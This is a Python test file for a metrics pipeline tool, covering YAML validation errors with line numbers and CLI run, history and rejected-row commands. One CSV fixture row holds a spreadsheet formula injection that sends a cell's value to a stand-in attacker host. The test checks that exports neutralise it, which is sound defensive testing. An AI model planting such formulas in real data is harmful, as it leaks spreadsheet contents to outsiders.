"""Pipeline YAML validation with file:line errors, and the pipeline commands end to end."""

from __future__ import annotations

import csv
from pathlib import Path

import sqlalchemy as sa
from click.testing import CliRunner

from cli import main
from metrics.registry.loader import Registry, load_registry
from metrics.registry.model import Area
from pipelines.config import load_pipelines, render_schema, validate_pipelines
from tests.conftest import CONFIG
from tests.pipelines.conftest import RETURNS_PIPELINE


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    return result.exit_code, result.output


def test_every_source_named_by_a_metric_has_a_pipeline(registry: Registry) -> None:
    pipelines = load_pipelines(registry)
    # A manual measure's figures are entered in PMF, not fed by a pipeline
    sources = {m.source for m in registry if m.source and not m.is_manual}
    assert sources <= set(pipelines)
    for metric in registry:
        if metric.source and not metric.is_manual:
            assert metric.id in pipelines[metric.source].metrics
    assert pipelines["oflog-asc"].mapping is not None
    assert pipelines["programme-milestones"].kind == "milestones"


def test_shipped_schema_file_is_current() -> None:
    path = CONFIG / "schemas" / "pipeline-file.schema.json"
    assert path.read_text(encoding="utf-8") == render_schema()


def test_broken_pipeline_file_lists_every_problem_with_its_line(config_copy: Path) -> None:
    path = config_copy / "pipelines" / "broken.yaml"
    path.write_text(
        "pipelines:\n"
        "  - id: broken-one\n"  # 2
        "    description: Broken.\n"
        "    owner: Tests\n"
        "    schedule: every day\n"  # 5
        "    metrics: [claimant-rate]\n"
        "    source:\n"
        "      kind: file\n"
        "      path: x/*.csv\n"
        "      header_rows: 2\n"  # 10
        "    mapping:\n"
        "      metric: claimant-rate\n"
        "      area: E99999999\n"  # 13
        "      period: {column: When, format: fortnight}\n"  # 14
        "      value: Value\n"
        "  - id: broken-two\n"  # 16
        "    description: Wrong kind.\n"
        "    owner: Tests\n"
        "    source: {kind: ftp}\n"  # 19
        "    mapping: {metric: claimant-rate, area: E10000028, period: {column: P}}\n",
        encoding="utf-8",
    )
    problems = [str(p) for p in validate_pipelines(config_copy)]
    label = str(path)
    assert any(
        p.startswith(f"{label}:5: broken-one.schedule: not a valid schedule") for p in problems
    )
    assert f"{label}:10: broken-one.source.header_rows: unknown field" in "\n".join(problems)
    assert any(
        p.startswith(f"{label}:14: broken-one.mapping.period.format: 'fortnight'") for p in problems
    )
    assert f"{label}:19: broken-two.source: 'ftp' is not a source kind" in "\n".join(problems)

    path.write_text(RETURNS_PIPELINE.replace("area: {column: Area}", "area: E07000999"))
    problems = [str(p) for p in validate_pipelines(config_copy)]
    assert problems == [
        f"{path}:10: test-returns.mapping.area: 'E07000999' is not a plan area; use "
        + ", ".join(a.code for a in load_registry_areas(config_copy))
    ]


def load_registry_areas(config_dir: Path) -> list[Area]:
    return list(load_registry(config_dir).plan.areas)


def test_period_format_must_suit_every_metric(config_copy: Path) -> None:
    path = config_copy / "pipelines" / "t.yaml"
    path.write_text(RETURNS_PIPELINE.replace("{column: Period}", "{column: Period, format: year}"))
    problems = [str(p) for p in validate_pipelines(config_copy)]
    assert any(
        "test-returns.mapping.period.format: 'year' gives yearly periods, but 'claimant-rate' "
        "is monthly" in p
        for p in problems
    )


def test_cli_run_history_rejected_and_list(
    config_copy: Path, db_url: str, engine: sa.Engine, tmp_path: Path
) -> None:
    (config_copy / "pipelines" / "t.yaml").write_text(RETURNS_PIPELINE)
    folder = tmp_path / "elsewhere" / "returns"
    folder.mkdir(parents=True)
    (folder / "a.csv").write_text(
        "Metric,Area,Period,Value,Numerator,Denominator\n"
        "claimant-rate,E10000028,Mar 2023,3.1,,\n"
        "claimant-rate,E10000028,Apr 2023,3.2,,\n"
        "claimant-rate,E10000028,May 2023,300,,\n"
        '=HYPERLINK("http://evil.example/?x="&B2),E10000028,Jun 2023,3.3,,\n'
    )
    base = ["--config", str(config_copy), "--database-url", db_url]
    code, out = run(*base, "pipelines", "run", "test-returns", "--drop-folder", str(folder.parent))
    assert code == 0, out
    assert "[1/1] test-returns" in out and "read returns/a.csv: 4 rows" in out
    assert "1 of 1 run(s) finished, 0 failed; 2 row(s) rejected (see `pmf rejected`)." in out

    code, out = run(*base, "rejected")
    assert code == 0
    assert "returns/a.csv row 4: value '300' is outside 0 to 100" in out

    # The rejected rows as CSV: a cell a source sent as a formula stays text in a spreadsheet
    export = tmp_path / "rejected.csv"
    code, out = run(*base, "rejected", "--csv", str(export))
    assert code == 0, out
    with export.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@"))], cells
    assert any(c.startswith("'=HYPERLINK") or "=HYPERLINK" in c for c in cells)

    code, out = run(*base, "pipelines", "history", "test-returns")
    assert code == 0 and "partially_rejected" in out

    code, out = run(*base, "pipelines", "list")
    assert code == 0 and "test-returns" in out and "partially_rejected" in out

    code, out = run(*base, "pipelines", "run", "nope")
    assert code == 2 and "No pipeline 'nope'. Known pipelines:" in out
    code, out = run(*base, "pipelines", "run", "test-returns")  # nothing in the default folder
    assert code == 0 and "skipped unchanged" in out and "no files match returns/*.csv" in out


def test_cli_validate_pipelines_on_shipped_config() -> None:
    code, out = run("pipelines", "validate")
    assert code == 0, out
